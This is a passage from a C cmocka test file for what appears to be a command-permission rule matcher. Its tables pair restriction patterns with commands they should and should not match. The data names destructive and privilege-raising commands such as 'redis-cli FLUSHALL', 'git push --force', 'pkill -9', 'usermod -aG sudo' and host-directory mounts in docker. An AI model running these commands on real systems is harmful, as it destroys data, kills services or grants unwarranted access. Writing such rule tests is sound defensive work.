	{ "pkill -9 **",
		{ "pkill --signal KILL x", "pkill --signal=9 x", "pkill -KILL x", "pkill x -9", "pkill -f -KILL x" },
		{ "pkill x", "pkill -HUP x", "pkill -f x-9" } },
	{ "pkill --signal KILL **",
		{ "pkill -9 x", "pkill --signal=9 x" },
		{ "pkill -HUP x" } },
	{ "killall -9 nginx",
		{ "killall -s KILL nginx", "killall -KILL nginx", "killall -sKILL x nginx" },
		{ "killall -s KILL x", "killall nginx" } },
};

/* One of a list that is an option's argument, and what stands behind the option's letter. */
static const struct said lists[] = {
	{ "docker run -v /etc:* **", { "docker run -itv/etc:/x y", "docker run -itv=/etc:/x y" }, { "docker run -itv/srv:/etc:/x y" } },
	{ "ansible-playbook ** --limit prod **",
		{ "ansible-playbook a.yml -l 'web:&prod'", "ansible-playbook a.yml --limit prod", "ansible-playbook a.yml -l prod", "ansible-playbook -l prod,web a.yml", "ansible-playbook a.yml --limit=web,prod",
		  "ansible-playbook a.yml -l web:prod", "ansible-playbook a.yml -lprod,web" },
		{ "ansible-playbook a.yml -l web", "ansible-playbook a.yml -l 'all:!prod'", "ansible-playbook a.yml -l products,web" } },
	{ "usermod -aG {sudo,docker} **",
		{ "usermod -aG a,docker x", "usermod -aGdocker x", "usermod -a -G docker,x y", "usermod --append --groups=a,sudo x", "usermod -aGa,sudo x",
		  "usermod -G sudo -a x" },
		{ "usermod -aG adm x", "usermod -aG adm,users x", "usermod -s sudo x", "usermod -aG dockers x" } },
	{ "useradd -G sudo **",
		{ "useradd -G a,sudo x", "useradd -mG sudo x", "useradd -mGsudo x" },
		{ "useradd -G a x" } },
	{ "psql -d app **",
		{ "psql -d app -c x", "psql -dapp" },
		{ "psql -d other -c 'select id,app'" } },
};

/* Where case says nothing. */
static const struct said cases[] = {
	{ "redis-cli flushall **",
		{ "redis-cli FLUSHALL", "redis-cli FlushAll async", "redis-cli -h x FLUSHALL", "redis-cli -n 1 FLUSHALL" },
		{ "redis-cli GET flushall1", "redis-cli GET x" } },
	{ "redis-cli config set **",
		{ "redis-cli CONFIG SET a b", "redis-cli config SET a b" },
		{ "redis-cli CONFIG GET a" } },
};

/* An equals sign behind an option's letter. */
static const struct said equals[] = {
	{ "kubectl -n prod **",
		{ "kubectl -n=prod get x", "kubectl get x -n=prod", "kubectl delete pod x -n=prod", "kubectl get -nprod x" },
		{ "kubectl -n=dev get x", "kubectl get x -l=prod" } },
	{ "kubectl get ** -o yaml **",
		{ "kubectl get x -o=yaml", "kubectl get x -oyaml" },
		{ "kubectl get x -o=json" } },
	{ "kubectl delete ** -n prod **",
		{ "kubectl delete pod x -n=prod" },
		{ "kubectl delete pod x -n=dev" } },
};

/* The file of a unit. */
static const struct said files[] = {
	{ "systemctl disable nginx",
		{ "systemctl disable /lib/systemd/system/nginx.service", "systemctl disable ./nginx.service", "systemctl --now disable /etc/systemd/system/nginx.service" },
		{ "systemctl disable /lib/systemd/system/x.service", "systemctl disable /srv/nginx" } },
	{ "systemctl disable *-db",
		{ "systemctl disable /lib/systemd/system/app-db.service" },
		{ "systemctl disable /lib/systemd/system/app.service" } },
};

/* What has a like name, or the name elsewhere. */
static const struct said free_names[] = {
	{ "docker run **", { "docker create x" },
		{ "docker network create x", "docker volume create x", "docker network create --driver bridge x", "docker compose create", "docker -H x network create y", "docker context create x", "docker service create x", "docker -H x volume create y" } },
	{ "docker compose run **", { NULL },
		{ "docker compose create x", "docker create x" } },
	{ "docker rm **", { "docker remove x" },
		{ "docker volume remove x", "docker network rm x", "docker image rm x", "docker image remove x", "docker compose rm" } },
	{ "docker volume rm **", { NULL },
		{ "docker rm x", "docker remove x", "docker network remove x" } },
	{ "npm install **", { NULL },
		{ "npm ci", "npm run install", "npm run i", "npm exec i", "npm x add" } },
	{ "npm uninstall **", { NULL },
		{ "npm run r", "npm run rm" } },
	{ "npm run add", { NULL },
		{ "npm run i" } },
	{ "npm run build", { NULL },
		{ "npm run i" } },
	{ "helm uninstall **", { NULL },
		{ "helm get un", "helm -n del list", "helm list -n un" } },
	{ "systemctl stop **", { NULL },
		{ "systemctl disable nginx", "systemctl enable --now nginx", "systemctl mask nginx", "systemctl status stop" } },
	{ "systemctl restart **", { NULL },
		{ "systemctl reload nginx", "systemctl start x" } },
	{ "systemctl start **", { NULL },
		{ "systemctl enable x", "systemctl reenable x" } },
	{ "git commit --no-verify **", { NULL },
		{ "git commit -m 'x -n'", "git commit -am new", "git commit --amend --no-edit", "git commit -C n", "git commit -vm new", "git commit --allow-empty -mn" } },
	{ "git branch -D **", { NULL },
		{ "git branch -d feature-f", "git branch -a", "git branch --list -f" } },
	{ "git push --force **", { NULL },
		{ "git push origin v+1", "git push origin HEAD", "git push -u origin main", "git push --tags", "git push git@h:x main" } },
	{ "git push origin main", { NULL },
		{ "git push origin maintenance", "git push upstream HEAD:main", "git push origin main:maint", "git push --set-upstream origin x" } },
	{ "git push --delete **", { NULL },
		{ "git push origin a:b", "git push git@h:x main", "git push ssh://h:22/x main" } },
	{ "make deploy ENV=prod **", { NULL },
		{ "make deploy ENV=dev OTHER=prod", "make deploy X=ENV=prod", "make ENV=prod test" } },
	{ "make deploy", { NULL },
		{ "make clean", "make -n DEPLOY=deploy" } },
	{ "scp * prod-*:*", { NULL },
		{ "scp u@prod-1 dev:/x", "scp prod@dev:/x dev:/y", "scp x dev:/prod-1:x", "scp -P 22 x app@dev:/prod-1" } },
	{ "rsync ** prod-1:*", { "rsync -a x u@prod-1:/" },
		{ "rsync -a x prod-1@dev:/y" } },
	{ "curl http://prod-1/*", { "curl http://prod-1/x" },
		{ "curl http://dev/prod-1/" } },
	{ "curl *internal*", { NULL },
		{ "curl http://external" } },
	{ "kill -9 **", { NULL },
		{ "kill -15 5", "kill -l 9", "kill -TERM 9", "kill -USR1 9", "kill -0 9" } },
	{ "kill -TERM **", { "kill -15 5" },
		{ "kill -9 15", "kill -0 5" } },
	{ "kill -s HUP 1", { "kill -1 1", "kill -HUP 1" },
		{ "kill -HUP 5" } },
	{ "pkill -u root **", { "pkill -u root x" },
		{ "pkill -u app x", "pkill -9 -u app x" } },
	{ "pkill -n **", { "pkill -n x" },
		{ "pkill -9 x" } },
	{ "killall -s KILL **", { "killall -9 x" },
		{ "killall -15 x" } },
	{ "usermod -aG sudo **", { NULL },
		{ "usermod -aG sudoers x", "usermod -G sudo x", "usermod -aG adm sudo-user" } },
	{ "usermod --groups sudo **", { "usermod -aGsudo x", "usermod -aG a,sudo x", "usermod -Gsudo x" },
		{ "usermod -aG a x" } },
	{ "ansible-playbook ** --limit prod **", { NULL },
		{ "ansible-playbook site.yml -l 'web:!prod'", "ansible-playbook prod.yml -l web", "ansible-playbook site.yml -l web -t prod,x" } },
	{ "docker run -v / **", { NULL },
		{ "docker run -v /srv x" } },
	{ "docker run -v /srv/* **", { "docker run -v /srv/a/b:/c x" },
		{ "docker run -v /opt:/srv/x y" } },
	{ "kubectl apply -f /srv/prod/*", { "kubectl apply -f /srv/prod/a" },
		{ "kubectl apply -f /srv/dev/prod/x" } },
	{ "redis-cli flushall **", { NULL },
		{ "redis-cli get FLUSH", "redis-cli GET x" } },
	{ "redis-cli del prod:*", { "redis-cli DEL prod:x", "redis-cli DEL a prod:y" },
		{ "redis-cli GET prod:x" } },
	{ "terraform apply -target **", { NULL },
		{ "terraform apply -no-color", "terraform apply --targets" } },
};

static void permissions_are_for_what_they_say(void **state)
{
	(void)state;
	ask_all(permits, refused, COUNT(refused), permitted, COUNT(permitted));
}

static void stars_are_for_names(void **state)
{
	(void)state;
	ask_all(stars, astray, COUNT(astray), straight, COUNT(straight));
}

static void stars_are_for_names_in_what_is_run(void **state)
{
	(void)state;
	ask_all(spelled, strayed, COUNT(strayed), held, COUNT(held));
}

static void many_words_stand_behind_the_subcommand(void **state)
{
	(void)state;
	ask_all(fronts, fronted, COUNT(fronted), behind, COUNT(behind));
}

static void options_that_a_rule_gives_are_not_given_again(void **state)
{
	(void)state;
	ask_all(fixed, given_again, COUNT(given_again), given_once, COUNT(given_once));
}

static void stars_are_no_code(void **state)
{
	(void)state;
	ask_all(texts, injected, COUNT(injected), plain_text, COUNT(plain_text));
}

static void stars_are_for_one_place(void **state)
{
	(void)state;
	ask_all(places, elsewhere, COUNT(elsewhere), there, COUNT(there));
}

static void stars_are_for_a_part_of_an_address(void **state)
{
	(void)state;
	ask_all(addresses, redirected, COUNT(redirected), addressed, COUNT(addressed));
}

static void stars_are_for_one_statement(void **state)
{
	(void)state;
	ask_all(queries, widened, COUNT(widened), asked, COUNT(asked));
}

static void stars_are_for_what_is_fetched_from_its_place(void **state)
{
	(void)state;
	ask_all(packages, local, COUNT(local), fetched, COUNT(fetched));
}

static void many_words_stand_before_the_place(void **state)
{
	(void)state;
	ask_all(dirs, displaced, COUNT(displaced), placed, COUNT(placed));
}

static void restrictions_are_for_tools_of_no_table(void **state)
{
	(void)state;
	ask_all(loose, evaded, COUNT(evaded), clear, COUNT(clear));
}

static void restrictions_are_for_every_way_to_say_it(void **state)
{
	(void)state;
	ask_all(restricts, caught, COUNT(caught), passed, COUNT(passed));
}

static void restrictions_are_for_what_is_run(void **state)
{
	(void)state;
	ask_all(ways, found, COUNT(found), free_, COUNT(free_));
}

static void restrictions_are_for_one_of_several(void **state)
{
	(void)state;
	ask_all(more, among, COUNT(among), apart, COUNT(apart));
}

static void options_are_those_of_the_program(void **state)
{
	(void)state;
	ask_all(names, meant, COUNT(meant), other, COUNT(other));
}

static void objects_have_several_names(void **state)
{
	(void)state;
	ask_all(objects, named, COUNT(named), unnamed, COUNT(unnamed));
}

static void restrictions_are_for_paths_as_text(void **state)
{
	(void)state;
	said_all(as_text, COUNT(as_text));
}

static void restrictions_are_for_hosts_in_addresses(void **state)
{
	(void)state;
	said_all(hosts, COUNT(hosts));
}

static void restrictions_are_for_operands_in_any_order(void **state)
{
	(void)state;
	said_all(sets, COUNT(sets));
}

static void restrictions_are_for_one_dash_and_two(void **state)
{
	(void)state;
	said_all(dashes, COUNT(dashes));
}

static void restrictions_are_for_refs_as_they_are_pushed(void **state)
{
	(void)state;
	said_all(refs, COUNT(refs));
}

static void restrictions_are_for_subcommands_by_their_other_names(void **state)
{
	(void)state;
	said_all(other_names, COUNT(other_names));
}

static void restrictions_are_for_signals_however_they_are_named(void **state)
{
	(void)state;
	said_all(signals, COUNT(signals));
}

static void restrictions_are_for_one_of_a_list(void **state)
{
	(void)state;
	said_all(lists, COUNT(lists));
}

static void restrictions_are_for_commands_of_redis_in_any_case(void **state)
{
	(void)state;
	said_all(cases, COUNT(cases));
}

static void restrictions_are_for_arguments_behind_a_sign(void **state)
{
	(void)state;
	said_all(equals, COUNT(equals));
}

static void restrictions_are_for_units_by_their_files(void **state)
{
	(void)state;
	said_all(files, COUNT(files));
}

static void restrictions_are_for_no_more_than_that(void **state)
{
	(void)state;
	said_all(free_names, COUNT(free_names));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(permissions_are_for_what_they_say),
		cmocka_unit_test(stars_are_for_names),
		cmocka_unit_test(stars_are_for_names_in_what_is_run),
		cmocka_unit_test(many_words_stand_behind_the_subcommand),
		cmocka_unit_test(options_that_a_rule_gives_are_not_given_again),
		cmocka_unit_test(stars_are_no_code),
		cmocka_unit_test(stars_are_for_one_place),
		cmocka_unit_test(stars_are_for_a_part_of_an_address),
		cmocka_unit_test(stars_are_for_one_statement),
		cmocka_unit_test(stars_are_for_what_is_fetched_from_its_place),
		cmocka_unit_test(many_words_stand_before_the_place),
		cmocka_unit_test(restrictions_are_for_tools_of_no_table),
		cmocka_unit_test(restrictions_are_for_every_way_to_say_it),
		cmocka_unit_test(restrictions_are_for_what_is_run),
		cmocka_unit_test(restrictions_are_for_one_of_several),
		cmocka_unit_test(options_are_those_of_the_program),
		cmocka_unit_test(objects_have_several_names),
		cmocka_unit_test(restrictions_are_for_paths_as_text),
		cmocka_unit_test(restrictions_are_for_hosts_in_addresses),
		cmocka_unit_test(restrictions_are_for_operands_in_any_order),
		cmocka_unit_test(restrictions_are_for_one_dash_and_two),
		cmocka_unit_test(restrictions_are_for_refs_as_they_are_pushed),
		cmocka_unit_test(restrictions_are_for_subcommands_by_their_other_names),
		cmocka_unit_test(restrictions_are_for_signals_however_they_are_named),
		cmocka_unit_test(restrictions_are_for_one_of_a_list),
		cmocka_unit_test(restrictions_are_for_commands_of_redis_in_any_case),
		cmocka_unit_test(restrictions_are_for_arguments_behind_a_sign),
		cmocka_unit_test(restrictions_are_for_units_by_their_files),
		cmocka_unit_test(restrictions_are_for_no_more_than_that),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
